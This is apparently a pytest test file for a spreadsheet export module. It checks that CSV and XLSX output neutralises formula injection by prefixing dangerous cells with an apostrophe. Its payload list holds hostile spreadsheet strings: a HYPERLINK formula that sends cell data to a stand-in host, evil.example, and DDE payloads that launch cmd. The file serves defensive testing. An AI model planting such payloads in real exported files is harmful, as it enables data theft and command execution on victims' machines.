"""Spreadsheet exports never carry a formula: payloads come out as text, numbers as numbers."""

import csv
import datetime as dt
import decimal
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from divert.core.exports import FORMULA_STARTS, csv_bytes, safe_cell, safe_writer, xlsx_bytes

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",  # full-width equals
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=cmd|' /C notepad'!'A1'",
    "-",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_written_as_text(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Aisha", "O'Brien", "", " =not first", "10-11", "a=b", "2025-26 Q1", "≤5"]
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [0, -3, 2.5, -0.125, decimal.Decimal("-1.5")])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["-3", "+44", "-0.25", "12"])
def test_text_that_is_only_a_number_is_left_alone(value):
    assert safe_cell(value) == value


def test_dates_none_and_booleans():
    assert safe_cell(dt.date(2025, 4, 1)) == "2025-04-01"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"


@given(st.text())
def test_no_guarded_cell_starts_a_formula(text):
    out = safe_cell(text)
    assert out == text or out == "'" + text
    if out.startswith(FORMULA_STARTS):
        assert re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", out)


def test_csv_writer_guards_every_cell():
    buffer = io.StringIO()
    safe_writer(buffer).writerows([["name", "score"], ["=1+2", -4], ["@x", 3.5]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "score"], ["'=1+2", "-4"], ["'@x", "3.5"]]


def test_csv_bytes_has_a_byte_order_mark_for_excel():
    data = csv_bytes([["a"], ["=b"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == ["a", "'=b"]


def test_xlsx_has_no_formula_cells_and_keeps_numbers():
    data = xlsx_bytes([["heading", "n"], ["=1+2", 7], ["http://example.org", -1.5]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
        names = archive.namelist()
    assert "<f>" not in sheet
    assert "'=1+2" in strings
    assert "<v>7</v>" in sheet and "<v>-1.5</v>" in sheet
    assert not any("hyperlink" in n.lower() or "externalLink" in n for n in names)
    assert "hyperlink" not in sheet
